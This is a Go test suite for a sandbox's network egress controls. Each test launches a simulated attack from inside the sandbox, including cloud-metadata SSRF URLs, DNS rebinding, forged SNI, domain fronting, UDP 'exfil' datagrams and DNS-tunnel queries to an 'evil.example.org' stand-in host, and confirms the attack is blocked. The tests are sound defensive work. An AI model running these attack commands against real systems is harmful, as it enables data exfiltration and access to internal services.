package egress_test

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/api"
	"github.com/airlock-sandbox/airlock/internal/testnet"
	"github.com/airlock-sandbox/airlock/policy"
)

// TestAttackRawIPToAllowedHost proves that an allowed host's address is
// no way around its name. Before the sandbox resolves the name, nothing
// is pinned to the address and every connection to it is refused
// (no_egress_rule). After, TLS must name a server pinned to the address
// (curl by address sends no SNI: no_sni; curl --resolve with another
// allowed name: sni_mismatch), plain HTTP must name it too (an address
// as Host: invalid_host), and bytes that are neither HTTP nor TLS need
// an egress rule (no_egress_rule). An address never resolved stays out
// of reach. No server at these addresses gets a connection.
func TestAttackRawIPToAllowedHost(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API, testnet.Other))

	// Nothing resolved yet: the address is pinned to no name.
	for _, c := range []struct {
		cmd  string
		port uint16
	}{
		{"curl -sS --max-time 10 https://203.0.113.10/", 443},
		{"curl -sS --max-time 10 http://203.0.113.10/", 80},
		{"curl -sS --max-time 10 https://203.0.113.10:8443/", 8443},
	} {
		m := e.mark()
		fails(t, sb, c.cmd)
		e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.APIAddr, c.port)
	}
	m := e.mark()
	if out := tool(t, sb, "tcp 203.0.113.10 2222 hello"); !strings.HasPrefix(out, "connect:") {
		t.Errorf("raw TCP to 203.0.113.10:2222, never resolved: %q, want the connection refused", out)
	}
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.APIAddr, testnet.PortEcho)

	// Resolved: 203.0.113.10 is pinned to api.example.com, and only
	// to it.
	if out := tool(t, sb, "resolve api.example.com 4"); out != testnet.APIAddr {
		t.Fatalf("resolve api.example.com: %q", out)
	}
	m = e.mark()
	res := fails(t, sb, "curl -sS --max-time 10 https://203.0.113.10/")
	if res.ExitCode != 35 {
		t.Errorf("curl https://203.0.113.10/: exit %d, want 35 (TLS handshake refused); stderr: %s", res.ExitCode, res.Stderr)
	}
	e.blocked(t, m, api.NetTCP, policy.ReasonNoSNI, testnet.APIAddr, 443)

	m = e.mark()
	fails(t, sb, "curl -sS --max-time 10 --resolve other.example.org:443:203.0.113.10 https://other.example.org/")
	if ev := e.blocked(t, m, api.NetTCP, policy.ReasonSNIMismatch, testnet.APIAddr, 443); ev.Host != testnet.Other {
		t.Errorf("sni_mismatch event names host %q, want %s", ev.Host, testnet.Other)
	}

	m = e.mark()
	if out := ok(t, sb, "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://203.0.113.10/"); out != "400" {
		t.Errorf("curl http://203.0.113.10/: status %s, want 400", out)
	}
	e.blocked(t, m, api.NetHTTP, policy.ReasonInvalidHost, testnet.APIAddr, 80)

	m = e.mark()
	if out := tool(t, sb, "tcp 203.0.113.10 2222 hello"); !strings.HasPrefix(out, "connect:") {
		t.Errorf("raw TCP to 203.0.113.10:2222: %q, want the connection refused", out)
	}
	if ev := e.blocked(t, m, api.NetTCP, policy.ReasonPortNotAllowed, testnet.APIAddr, testnet.PortEcho); ev.Host != testnet.API {
		t.Errorf("port_not_allowed event names host %q, want %s (pinned)", ev.Host, testnet.API)
	}

	// An allowed host's address that the sandbox never resolved.
	m = e.mark()
	fails(t, sb, "curl -sS --max-time 10 https://203.0.113.11/")
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.OtherAddr, 443)
	// And a public address that no allowed name has.
	m = e.mark()
	fails(t, sb, "curl -sS --max-time 10 https://203.0.113.12/")
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.FilesAddr, 443)

	e.unreached(t, testnet.APIAddr, testnet.APIAddr6, testnet.OtherAddr, testnet.FilesAddr)
	if reqs := e.w.Requests(""); len(reqs) != 0 {
		t.Errorf("the World's servers got %d requests, want none: %+v", len(reqs), reqs)
	}
}

// TestAttackPrivateAddresses proves that private, loopback and metadata
// addresses stay out of reach, even for names in allowed_hosts and even
// with an egress rule for every address. DNS answers with such an
// address are dropped (a blocked dns event, blocked_ip); connections to
// them by address are refused with a tcp event; IPv4-mapped and NAT64
// forms of them too. 127.0.0.1 and ::1 are the sandbox's own loopback:
// those connections never leave it (and it cannot forge packets that
// would), and the test namespace's loopback servers (the host's, as far
// as the sandbox is concerned) are never reached.
func TestAttackPrivateAddresses(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API, testnet.Private, testnet.Loop, testnet.Metadata))

	for _, name := range []string{testnet.Private, testnet.Loop, testnet.Metadata} {
		m := e.mark()
		if out := tool(t, sb, "resolve "+name+" 4"); !strings.HasPrefix(out, "error:") {
			t.Errorf("resolve %s: %q, want no address", name, out)
		}
		e.blockedDNS(t, m, name, "A", policy.ReasonBlockedIP)
		res := fails(t, sb, "curl -sS --max-time 10 http://"+name+"/")
		if res.ExitCode != 6 {
			t.Errorf("curl http://%s/: exit %d, want 6 (could not resolve); stderr: %s", name, res.ExitCode, res.Stderr)
		}
	}

	for _, c := range []struct {
		url, ip string
		port    uint16
	}{
		{"http://10.77.0.5/", testnet.PrivateAddr, 80},
		{"http://169.254.169.254/", testnet.MetadataAddr, 80},
		{"http://169.254.169.254/latest/meta-data/", testnet.MetadataAddr, 80},
		{"http://[::ffff:10.77.0.5]/", testnet.PrivateAddr, 80},
		{"http://[64:ff9b::a4d:5]/", "64:ff9b::a4d:5", 80},
		{"http://[64:ff9b::a9fe:a9fe]/", "64:ff9b::a9fe:a9fe", 80},
	} {
		m := e.mark()
		fails(t, sb, "curl -gsS --max-time 10 "+c.url)
		e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, c.ip, c.port)
	}
	// Nor can the sandbox forge packets that would carry a loopback
	// destination out through eth0: no raw or packet sockets.
	// Packet sockets are not a family a sandbox may open at all; raw
	// inet sockets need a capability commands do not have.
	for _, c := range []struct{ sock, want string }{
		{"AF_PACKET, socket.SOCK_RAW", "Errno 97"},
		{"AF_INET, 10, 0x0300", "Errno 97"}, // SOCK_PACKET
		{"AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP", "PermissionError"},
		{"AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP", "PermissionError"},
	} {
		res := fails(t, sb, `python3 -c "import socket; socket.socket(socket.`+c.sock+`)"`)
		if !strings.Contains(string(res.Stderr), c.want) {
			t.Errorf("socket(%s): %s, want %s", c.sock, res.Stderr, c.want)
		}
	}
	for _, url := range []string{"http://127.0.0.1:7780/", "http://[::1]:7780/", "http://127.0.0.1/"} {
		res := fails(t, sb, "curl -gsS --max-time 10 "+url)
		if res.ExitCode != 7 {
			t.Errorf("curl %s: exit %d, want 7 (connection refused by the sandbox's own loopback); stderr: %s", url, res.ExitCode, res.Stderr)
		}
	}

	// An egress rule for every address and these ports lifts none of
	// the blocks: a CIDR lifts only the blocked range it lies inside.
	n := e.network(testnet.API, testnet.Private)
	n.Egress = []policy.EgressRule{
		{Destination: "0.0.0.0/0", Ports: []uint16{80, 7780}, Protocol: "any"},
		{Destination: "::/0", Ports: []uint16{80, 7780}, Protocol: "any"},
	}
	sb2 := e.box(t, n)
	m := e.mark()
	tool(t, sb2, "resolve private.example.com 4")
	e.blockedDNS(t, m, testnet.Private, "A", policy.ReasonBlockedIP)
	for _, c := range []struct{ url, ip string }{
		{"http://10.77.0.5/", testnet.PrivateAddr},
		{"http://169.254.169.254/", testnet.MetadataAddr},
		{"http://[64:ff9b::a4d:5]/", "64:ff9b::a4d:5"},
		{"http://[fd00::1]/", "fd00::1"},
	} {
		m := e.mark()
		fails(t, sb2, "curl -gsS --max-time 10 "+c.url)
		e.blocked(t, m, api.NetTCP, policy.ReasonBlockedIP, c.ip, 80)
	}
	m = e.mark()
	tool(t, sb2, "udp 10.77.0.5 80 exfil")
	e.blocked(t, m, api.NetUDP, policy.ReasonBlockedIP, testnet.PrivateAddr, 80)

	e.unreached(t, testnet.PrivateAddr, testnet.MetadataAddr, testnet.LoopAddr, testnet.LoopAddr6)
	if reqs := e.w.Requests("private"); len(reqs) != 0 {
		t.Errorf("the private servers got requests: %+v", reqs)
	}
}

// TestAttackGateway proves that the gateway (10.88.0.1, fe80::1) serves
// DNS and nothing else: its other TCP ports and UDP ports are refused,
// each with a blocked event.
func TestAttackGateway(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API))
	for _, c := range []struct {
		url, ip string
		port    uint16
	}{
		{"http://10.88.0.1/", "10.88.0.1", 80},
		{"https://10.88.0.1/", "10.88.0.1", 443},
		{"http://10.88.0.1:22/", "10.88.0.1", 22},
		{"http://[fe80::1%eth0]/", "fe80::1", 80},
		{"http://[fe80::1%eth0]:53/", "fe80::1", 53},
	} {
		m := e.mark()
		fails(t, sb, "curl -gsS --max-time 10 '"+c.url+"'")
		e.blocked(t, m, api.NetTCP, policy.ReasonBlockedIP, c.ip, c.port)
	}
	m := e.mark()
	if out := tool(t, sb, "tcp 10.88.0.1 22 SSH-2.0-x"); !strings.HasPrefix(out, "connect:") {
		t.Errorf("raw TCP to 10.88.0.1:22: %q, want the connection refused", out)
	}
	e.blocked(t, m, api.NetTCP, policy.ReasonBlockedIP, "10.88.0.1", 22)
	m = e.mark()
	tool(t, sb, "udp 10.88.0.1 123 ntp")
	e.blocked(t, m, api.NetUDP, policy.ReasonBlockedIP, "10.88.0.1", 123)
}

// TestAttackDNSRebinding proves that a name that first resolves to a
// public address and then to a private one (DNS rebinding, TTL 0) gets
// no further than the first: the first answer is pinned and serves, the
// second is dropped (a blocked dns event), and a connection to the
// private address under the name is refused. The private server is
// never reached.
func TestAttackDNSRebinding(t *testing.T) {
	e := start(t)
	const name = "rebind.api.example.com" // in api.example.com's certificate
	e.w.DNS.SetSequence(name, 0,
		[]netip.Addr{netip.MustParseAddr(testnet.APIAddr)},
		[]netip.Addr{netip.MustParseAddr(testnet.PrivateAddr)})
	sb := e.box(t, e.network(name))

	if out := tool(t, sb, "resolve "+name+" 4"); out != testnet.APIAddr {
		t.Fatalf("first resolution of %s: %q, want %s", name, out, testnet.APIAddr)
	}
	ev := e.event(t, "dns A "+name, func(ev api.NetworkEvent) bool {
		return ev.Kind == api.NetDNS && ev.Host == name && ev.QType == "A"
	})
	if ev.Blocked || len(ev.Answers) != 1 || ev.Answers[0] != testnet.APIAddr {
		t.Errorf("first answer: %+v, want %s, not blocked", ev, testnet.APIAddr)
	}
	m := e.mark()
	ok(t, sb, "curl -sS --max-time 10 --resolve "+name+":443:203.0.113.10 https://"+name+"/echo")
	e.allowed(t, m, "GET", "https://"+name+"/echo", name, 200)
	if req, found := e.w.LastRequest(testnet.APIAddr + ":443"); !found || req.SNI != name {
		t.Errorf("the first answer's server got %+v, want a request with SNI %s", req, name)
	}

	m = e.mark()
	if out := tool(t, sb, "resolve "+name+" 4"); !strings.HasPrefix(out, "error:") {
		t.Errorf("second resolution of %s: %q, want no address", name, out)
	}
	e.blockedDNS(t, m, name, "A", policy.ReasonBlockedIP)
	if n := e.w.DNS.Queries(name); n < 2 {
		t.Errorf("the World's DNS got %d questions for %s, want both", n, name)
	}

	for _, c := range []struct {
		cmd  string
		port uint16
	}{
		{"curl -sS --max-time 10 --resolve " + name + ":80:10.77.0.5 http://" + name + "/", 80},
		{"curl -sS --max-time 10 --resolve " + name + ":443:10.77.0.5 https://" + name + "/", 443},
	} {
		m := e.mark()
		fails(t, sb, c.cmd)
		e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.PrivateAddr, c.port)
	}
	e.unreached(t, testnet.PrivateAddr)
}

// TestAttackForgedSNI proves that a TLS ClientHello must name a server
// that DNS pinned to the address connected to: openssl s_client to
// api.example.com's address with SNI other.example.org (both allowed,
// both resolved) is refused with sni_mismatch, the other way round too,
// and with no SNI at all with no_sni. No upstream server gets a
// connection.
func TestAttackForgedSNI(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API, testnet.Other))
	tool(t, sb, "resolve api.example.com 4")
	tool(t, sb, "resolve other.example.org 4")

	for _, c := range []struct {
		connect, sni, ip, code string
	}{
		{"api.example.com:443", "-servername other.example.org", testnet.APIAddr, policy.ReasonSNIMismatch},
		{"other.example.org:443", "-servername api.example.com", testnet.OtherAddr, policy.ReasonSNIMismatch},
		{"api.example.com:443", "-servername wrongname.example.com", testnet.APIAddr, policy.ReasonSNIMismatch},
		{"api.example.com:443", "-noservername", testnet.APIAddr, policy.ReasonNoSNI},
	} {
		m := e.mark()
		cmd := "openssl s_client -connect " + c.connect + " " + c.sni + " </dev/null"
		res := fails(t, sb, cmd)
		if !strings.Contains(string(res.Stdout), "no peer certificate available") {
			t.Errorf("%s: the sandbox got a certificate:\n%s", cmd, res.Stdout)
		}
		e.blocked(t, m, api.NetTCP, c.code, c.ip, 443)
	}
	e.unreached(t, testnet.APIAddr, testnet.OtherAddr)

	// The same client with the right name gets through.
	ok(t, sb, "openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null")
}

// TestAttackDomainFronting proves that a request's host must be the TLS
// server name (or, in plain HTTP, a name pinned to the address): a Host
// header naming another allowed host, over HTTP/1.1, HTTP/2
// (:authority), plain HTTP or as an absolute-form target, gets 421 with
// host_mismatch, and neither server gets the request.
func TestAttackDomainFronting(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API, testnet.Other))
	for _, c := range []struct {
		name, cmd, url string
	}{
		{"h1", "curl -sS --max-time 10 --http1.1 -D - -H 'Host: other.example.org' https://api.example.com/echo", "https://other.example.org/echo"},
		{"h2", "curl -sS --max-time 10 --http2 -D - -H 'Host: other.example.org' https://api.example.com/echo", "https://other.example.org/echo"},
		{"plain", "curl -sS --max-time 10 -D - -H 'Host: other.example.org' http://api.example.com/echo", "http://other.example.org/echo"},
		{"absolute", "curl -sS --max-time 10 --http1.1 -D - --request-target https://other.example.org/echo https://api.example.com/echo", "https://other.example.org/echo"},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := e.mark()
			out := strings.ToLower(ok(t, sb, c.cmd))
			if !strings.Contains(out, " 421") || !strings.Contains(out, "x-airlock-blocked: host_mismatch") {
				t.Errorf("%s:\n%s\nwant 421 with X-Airlock-Blocked: host_mismatch", c.cmd, out)
			}
			ev := e.request(t, m, c.url)
			wantBlocked(t, ev, api.NetHTTP, policy.ReasonHostMismatch)
			if ev.StatusCode != 421 {
				t.Errorf("event status %d, want 421", ev.StatusCode)
			}
		})
	}
	if reqs := e.w.Requests(""); len(reqs) != 0 {
		t.Errorf("the World's servers got %d requests, want none: %+v", len(reqs), reqs)
	}
}

// TestAttackUDPExfiltration proves that UDP other than DNS needs an
// egress rule: a datagram to an allowed host's echo port is dropped
// with a blocked udp event and never arrives, over IPv4 and IPv6.
func TestAttackUDPExfiltration(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API))
	tool(t, sb, "resolve api.example.com")
	for _, ip := range []string{testnet.APIAddr, testnet.APIAddr6} {
		m := e.mark()
		if out := tool(t, sb, "udp "+ip+" 9999 exfil"); out != "sent" {
			t.Errorf("udp to %s: %q", ip, out)
		}
		e.blocked(t, m, api.NetUDP, policy.ReasonNoEgressRule, ip, testnet.PortUDPEcho)
	}
	e.unreached(t, "api.example.com:9999")
}

// TestEgressRuleAllowsUDP proves that an egress rule for UDP to a name
// lets datagrams through to the name's address and back, and reports
// the flow when it ends.
func TestEgressRuleAllowsUDP(t *testing.T) {
	e := start(t)
	n := e.network(testnet.API)
	n.Egress = []policy.EgressRule{{Destination: testnet.API, Ports: []uint16{testnet.PortUDPEcho}, Protocol: "udp"}}
	sb := e.box(t, n)
	tool(t, sb, "resolve api.example.com 4")
	m := e.mark()
	if out := tool(t, sb, "udp 203.0.113.10 9999 ping reply"); !strings.Contains(out, "reply: 'ping'") {
		t.Errorf("udp echo: %q", out)
	}
	if n := e.w.Reached(testnet.APIAddr + ":9999"); n != 1 {
		t.Errorf("the UDP echo server got %d datagrams, want 1", n)
	}
	// The flow ends, and is reported, when it has been idle for a while
	// or the sandbox closes.
	sb.Close()
	ev := e.since(t, m, "udp flow to 203.0.113.10:9999", func(ev api.NetworkEvent) bool {
		return ev.Kind == api.NetUDP && ev.IP == testnet.APIAddr && ev.Port == testnet.PortUDPEcho
	})
	if ev.Blocked || ev.RequestBytes != 4 || ev.ResponseBytes != 4 || ev.Host != testnet.API {
		t.Errorf("udp event %+v, want allowed, 4 bytes each way, host %s", ev, testnet.API)
	}
}

// TestAttackDNSTunnel proves that DNS carries nothing to or from names
// that are not allowed: A and TXT questions for them (through the C
// library, and as raw packets over UDP and TCP) get NXDOMAIN with a
// blocked dns event and never reach the upstream server; a TXT question
// for an allowed name gets an empty answer without being forwarded; and
// DNS straight to an outside server is a UDP or TCP flow with no rule.
func TestAttackDNSTunnel(t *testing.T) {
	e := start(t)
	e.w.DNS.SetTXT(testnet.API, "a channel the sandbox must not get")
	e.w.DNS.Set("c2vjcmv0.evil.example.org", netip.MustParseAddr(testnet.OtherAddr))
	sb := e.box(t, e.network(testnet.API))

	evil := []string{
		// Lower case, as events report names.
		"c2vjcmv0.evil.example.org",
		"dgnw.evil.example.org",
		"bwg.evil.example.org",
		"c2vjcmv0.api.example.com",
		"zglyzwn0.evil.example.org",
	}
	m := e.mark()
	fails(t, sb, `python3 -c "import socket; socket.gethostbyname('c2VjcmV0.evil.example.org')"`)
	e.blockedDNS(t, m, evil[0], "A", policy.ReasonHostNotAllowed)
	for _, c := range []struct{ name, qtype, proto string }{
		{evil[0], "TXT", "udp"},
		{evil[1], "TXT", "tcp"},
		{evil[2], "MX", "udp"},
		{evil[3], "TXT", "udp"},
		{evil[3], "A", "tcp"},
	} {
		m := e.mark()
		if out := tool(t, sb, "dns "+c.name+" "+c.qtype+" "+c.proto); out != "rcode=3 answers=0" {
			t.Errorf("%s %s over %s: %q, want NXDOMAIN", c.qtype, c.name, c.proto, out)
		}
		if ev := e.blockedDNS(t, m, c.name, c.qtype, policy.ReasonHostNotAllowed); ev.Proto != c.proto {
			t.Errorf("dns event proto %q, want %s", ev.Proto, c.proto)
		}
	}

	before := e.w.DNS.Queries(testnet.API)
	if out := tool(t, sb, "dns api.example.com TXT"); out != "rcode=0 answers=0" {
		t.Errorf("TXT api.example.com: %q, want an empty answer", out)
	}
	if out := tool(t, sb, "dns api.example.com TXT tcp"); out != "rcode=0 answers=0" {
		t.Errorf("TXT api.example.com over TCP: %q, want an empty answer", out)
	}
	if n := e.w.DNS.Queries(testnet.API); n != before {
		t.Errorf("TXT questions for an allowed name reached the upstream server (%d questions, %d before)", n, before)
	}

	// Around the gateway: straight to the World's DNS server.
	m = e.mark()
	tool(t, sb, "dnssend "+evil[4]+" TXT 203.0.113.53")
	e.blocked(t, m, api.NetUDP, policy.ReasonNoEgressRule, "203.0.113.53", 53)
	m = e.mark()
	if out := tool(t, sb, "dns "+evil[4]+" TXT tcp 203.0.113.53"); !strings.HasPrefix(out, "connect:") {
		t.Errorf("DNS over TCP to 203.0.113.53: %q, want the connection refused", out)
	}
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, "203.0.113.53", 53)

	for _, name := range evil {
		if n := e.w.DNS.Queries(name); n != 0 {
			t.Errorf("the World's DNS got %d questions for %s, want none", n, name)
		}
	}
	e.unreached(t, testnet.DNSAddr)
}

// TestAttackIPv6 proves that IPv6 gets the decisions IPv4 gets: an
// allowed host's IPv6 address is refused before the name is resolved
// and without SNI after; loopback, unique-local, link-local (the
// gateway) and NAT64 targets are refused; UDP is dropped. Nothing is
// reached.
func TestAttackIPv6(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network(testnet.API))

	m := e.mark()
	fails(t, sb, "curl -gsS --max-time 10 https://[2001:db8:77::10]/")
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.APIAddr6, 443)

	if out := tool(t, sb, "resolve api.example.com 6"); out != testnet.APIAddr6 {
		t.Fatalf("resolve api.example.com over AAAA: %q", out)
	}
	m = e.mark()
	fails(t, sb, "curl -gsS --max-time 10 https://[2001:db8:77::10]/")
	e.blocked(t, m, api.NetTCP, policy.ReasonNoSNI, testnet.APIAddr6, 443)
	m = e.mark()
	fails(t, sb, "curl -gsS --max-time 10 --resolve other.example.org:443:[2001:db8:77::10] https://other.example.org/")
	e.blocked(t, m, api.NetTCP, policy.ReasonSNIMismatch, testnet.APIAddr6, 443)

	for _, c := range []struct{ url, ip, code string }{
		{"http://[fd00::1]/", "fd00::1", policy.ReasonNoEgressRule},
		{"http://[fd88::1]/", "fd88::1", policy.ReasonBlockedIP}, // the gateway, which serves DNS only
		{"http://[fe80::1%eth0]/", "fe80::1", policy.ReasonBlockedIP},
		{"http://[64:ff9b::cb00:710a]/", "64:ff9b::cb00:710a", policy.ReasonNoEgressRule},
		{"http://[2001:db8:77::11]/", "2001:db8:77::11", policy.ReasonNoEgressRule},
	} {
		m := e.mark()
		fails(t, sb, "curl -gsS --max-time 10 '"+c.url+"'")
		e.blocked(t, m, api.NetTCP, c.code, c.ip, 80)
	}
	res := fails(t, sb, "curl -gsS --max-time 10 http://[::1]:7780/")
	if res.ExitCode != 7 {
		t.Errorf("curl http://[::1]:7780/: exit %d, want 7 (refused by the sandbox's own loopback)", res.ExitCode)
	}

	m = e.mark()
	tool(t, sb, "udp 2001:db8:77::10 9999 exfil")
	e.blocked(t, m, api.NetUDP, policy.ReasonNoEgressRule, testnet.APIAddr6, testnet.PortUDPEcho)

	e.unreached(t, testnet.APIAddr6, "["+testnet.LoopAddr6+"]:7780", testnet.APIAddr)
}

// TestAttackEmptyAllowlist proves that a network with no allowed hosts
// allows nothing: DNS for an existing name is NXDOMAIN with a blocked
// event and never forwarded, and connections by address are refused.
func TestAttackEmptyAllowlist(t *testing.T) {
	e := start(t)
	sb := e.box(t, e.network())

	m := e.mark()
	if out := tool(t, sb, "dns api.example.com A"); out != "rcode=3 answers=0" {
		t.Errorf("A api.example.com: %q, want NXDOMAIN", out)
	}
	e.blockedDNS(t, m, testnet.API, "A", policy.ReasonHostNotAllowed)
	m = e.mark()
	fails(t, sb, "curl -sS --max-time 10 https://api.example.com/")
	e.blockedDNS(t, m, testnet.API, "A", policy.ReasonHostNotAllowed)

	for _, c := range []struct {
		cmd  string
		port uint16
	}{
		{"curl -sS --max-time 10 https://203.0.113.10/", 443},
		{"curl -sS --max-time 10 http://203.0.113.10/", 80},
	} {
		m := e.mark()
		fails(t, sb, c.cmd)
		e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.APIAddr, c.port)
	}
	m = e.mark()
	if out := tool(t, sb, "tcp 203.0.113.10 2222 hello"); !strings.HasPrefix(out, "connect:") {
		t.Errorf("raw TCP to 203.0.113.10:2222: %q, want the connection refused", out)
	}
	e.blocked(t, m, api.NetTCP, policy.ReasonNoEgressRule, testnet.APIAddr, testnet.PortEcho)
	m = e.mark()
	tool(t, sb, "udp 203.0.113.10 9999 exfil")
	e.blocked(t, m, api.NetUDP, policy.ReasonNoEgressRule, testnet.APIAddr, testnet.PortUDPEcho)

	if n := e.w.DNS.Total(); n != 0 {
		t.Errorf("the World's DNS got %d questions, want none", n)
	}
	e.unreached(t, testnet.APIAddr, testnet.DNSAddr)
}

// TestNoNetworkHasNoInterface proves that a sandbox created without a
// network has loopback alone: no eth0, no route, nothing reached.
func TestNoNetworkHasNoInterface(t *testing.T) {
	e := start(t)
	sb := e.box(t, nil, hostRoot)
	if out := strings.TrimSpace(ok(t, sb, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")); out != "lo" {
		t.Errorf("interfaces in /proc/net/dev: %q, want lo alone", out)
	}
	if out := ok(t, sb, "ip -o link"); strings.Count(out, "\n") != 1 || !strings.HasPrefix(out, "1: lo:") {
		t.Errorf("ip -o link:\n%s\nwant lo alone", out)
	}
	// Loopback's own routes aside (gVisor's Sentry lists them in the
	// main table).
	if out := strings.TrimSpace(ok(t, sb, "{ ip route; ip -6 route; } | grep -v ' dev lo ' || true")); out != "" {
		t.Errorf("routes:\n%s\nwant none but loopback's", out)
	}
	fails(t, sb, "curl -sS --max-time 10 https://203.0.113.10/")
	fails(t, sb, "curl -gsS --max-time 10 https://[2001:db8:77::10]/")
	fails(t, sb, "curl -sS --max-time 10 https://api.example.com/")
	if out := tool(t, sb, "udp 203.0.113.53 53 x"); !strings.HasPrefix(out, "send:") {
		t.Errorf("udp with no network: %q, want the send refused", out)
	}
	if n := e.w.DNS.Total(); n != 0 {
		t.Errorf("the World's DNS got %d questions, want none", n)
	}
	e.unreached(t, testnet.APIAddr, testnet.APIAddr6, testnet.DNSAddr)
	if evs := e.events(); len(evs) != 0 {
		t.Errorf("a sandbox without a network reported network events: %s", eventList(evs))
	}
}
